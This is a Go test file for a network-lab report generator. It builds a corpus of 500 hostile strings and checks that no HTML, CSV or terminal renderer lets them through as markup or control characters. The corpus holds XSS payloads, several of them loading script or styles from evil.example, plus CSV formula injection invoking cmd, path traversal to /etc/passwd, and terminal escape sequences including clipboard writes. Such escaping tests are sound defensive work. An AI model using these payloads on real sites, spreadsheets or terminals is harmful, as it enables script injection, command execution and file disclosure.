package reports

import (
	"fmt"
	"iter"
	"strings"
	"testing"

	"hybridlab/lab"
)

// corpus is what peers of bad will would put where a report shows it: 500
// strings, each of attacks in a place to break out of.
var corpus = func() (all []string) {
	attacks := append([]string{}, hostile...)
	for _, tag := range []string{"img src=x onerror", "svg onload", "body onload", "details open ontoggle", "video src=x onerror", "input autofocus onfocus", "iframe onload", "marquee onstart"} {
		attacks = append(attacks, "<"+tag+"=pwned=1>", "<"+strings.ToUpper(tag)+`="pwned=1">`, strings.ReplaceAll("<"+tag+"=alert(1)>", " ", "/"))
	}
	attacks = append(attacks,
		`<script>pwned=1</script>`, `<script src=http://evil.example/x.js></script>`, `<link rel=stylesheet href=http://evil.example/x.css>`,
		`<style>@import "http://evil.example/x.css"</style>`, `<base href=http://evil.example/>`, `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
		`<a href="javascript:pwned=1">x</a>`, `<form action=http://evil.example/><input type=submit>`, `<object data=http://evil.example/>`, `<embed src=http://evil.example/>`,
		`<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`, `<template><script>pwned=1</script></template>`,
		`{{7*7}}${7*7}#{7*7}<%=7*7%>`, `constructor.constructor('pwned=1')()`, `__proto__`, `toString`, `"};pwned=1;//`, `\"};pwned=1;//`, `\u003cimg src=x onerror=pwned=1\u003e`,
		`&lt;img src=x onerror=pwned=1&gt;`, `&#60;img src=x onerror=pwned=1&#62;`, `%3Cimg%20src=x%20onerror=pwned=1%3E`, "\x3cimg src=x onerror=pwned=1\x3e\x00", `data:text/html,<script>pwned=1</script>`,
		`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `+1+cmd`, `-1+cmd`, "\t=1+1", `../../../../etc/passwd`, `..\..\windows\win.ini`, `/etc/passwd`, `C:\x`, `con.html`, "name\x00.pcapng",
		"\x1b[2J\x1b[H", "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q544e\x1b\\", "\x9b2J", "\x1b[5m\x1b[8mhidden", "\r\x1b[Kall is well", "\b\b\b\bgood",
		"\u202e\u2066\u2069\u200f\u200e", strings.Repeat("\u200b", 300), strings.Repeat("\u0301", 300), strings.Repeat("<", 3000), strings.Repeat("x", 100000), "\U0001f469\u200d\U0001f467",
	)
	for _, place := range []string{"%s", `">%s`, `'>%s`, "</script>%s", "</title></style>%s", "--><!--%s", `"]]}%s`, "\x1b]0;%s\x07", "\n%s\r\n", "\u202e%s"} {
		for _, a := range attacks {
			all = append(all, fmt.Sprintf(place, a))
		}
	}
	return all[:500]
}()

func TestCorpus(t *testing.T) {
	seen := map[string]bool{}
	for _, s := range corpus {
		seen[s] = true
	}
	if len(seen) != 500 {
		t.Errorf("%d different strings, want 500", len(seen))
	}
}

// bad is a Source in which every string is hostile: what the hello says (SNI,
// ALPN), alerts, the certificate's names, what the peers printed.
type bad struct{ verdicts Verdicts }

func (b bad) Ladder(capture string) (lab.Ladder, error) {
	s := b.of(capture)
	return lab.Ladder{
		Rungs: []lab.Rung{{
			Dir: s, Sent: lab.Sight{Packet: 1, Bytes: 60}, Drop: s, Notes: []string{s, "box " + s + ": " + s}, Proto: s, Flags: s,
			TLS: []lab.Piece{{What: "alert " + s, From: 1, To: 2, Of: 7}},
		}},
		Hellos: []lab.HelloPair{{Arrived: true, Lines: []lab.HelloLine{
			{Name: "server_name", Sent: s, Received: s + s}, {Name: "application_layer_protocol_negotiation", Sent: s}, {Name: s, Received: s},
		}}},
	}, fmt.Errorf("read: %s", s)
}

func (b bad) of(capture string) string {
	var i int
	fmt.Sscanf(capture, "captures/bad-%d.pcapng", &i)
	return corpus[i]
}

func (b bad) Observations() iter.Seq2[lab.Observation, error] {
	return func(yield func(lab.Observation, error) bool) {
		for v := range b.verdicts {
			s := b.of(v.Capture)
			e := lab.End{Group: s, Version: s, Reached: "CN=" + s + ", SAN=DNS:" + s, Error: s}
			if !yield(lab.Observation{Capture: v.Capture, Client: e, Server: e, Path: lab.Path{Boxes: []lab.Deed{{Box: s, Action: s}}}}, nil) {
				return
			}
		}
	}
}

// badRun is a cell for every string, with that string everywhere in it.
func badRun() (lab.Report, bad) {
	rep, _ := spikedRun()
	var vs []lab.Verdict
	for i, s := range corpus {
		v := spiked(s, lab.Outcomes[i%len(lab.Outcomes)])
		v.Cell, v.Capture, v.Known = fmt.Sprintf("bad %d %s", i, s), fmt.Sprintf("captures/bad-%d.pcapng", i), s
		vs = append(vs, v)
	}
	for _, s := range corpus {
		rep.Links = append(rep.Links, lab.LinkInfo{Name: s, About: s})
		rep.Boxes = append(rep.Boxes, lab.BoxInfo{Name: s, About: s, Origin: s, Fix: s, Evidence: []string{s}})
		rep.Peers = append(rep.Peers, lab.PeerInfo{ID: lab.PeerID(s), Version: s, Image: s, Unavailable: s})
	}
	rep.Cells = len(vs)
	return rep, bad{Slice(vs)}
}

// The whole corpus makes no element and no attribute that harmless text does
// not make, and no renderer fails or lets a control character through.
func TestCorpusInEveryRenderer(t *testing.T) {
	rep, src := badRun()
	page := sourced(t, rep, src.verdicts, src)
	for _, n := range nodes(t, page) {
		switch n.Data {
		case "img", "iframe", "object", "embed", "form", "base", "link", "video", "math", "template", "input":
			if attr(n, "id") != "filters" {
				t.Errorf("hostile text made an element %s", n.Data)
			}
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" {
				t.Errorf("hostile text made %s=%q", a.Key, a.Val)
			}
		}
	}
	cells, _ := readDetails(t, page)
	if len(cells) != len(corpus) {
		t.Errorf("%d cells with details, want %d", len(cells), len(corpus))
	}
	for _, r := range renderers {
		var b strings.Builder
		if err := r.render(&b, rep, src.verdicts); err != nil {
			t.Errorf("%s: %v", r.name, err)
		}
		printed(t, r.name, strings.ReplaceAll(b.String(), "\r\n", "\n")) // a CSV file's own
	}
}

// printed fails the test if a character that does not print came through.
func printed(t *testing.T, where, s string) {
	t.Helper()
	if i := strings.IndexAny(s, "\x1b\x00\x07\b\r\u202e\u2066\u200b\u009b\u2028"); i >= 0 {
		t.Errorf("%s: %q came through", where, s[i:min(i+20, len(s))])
	}
}
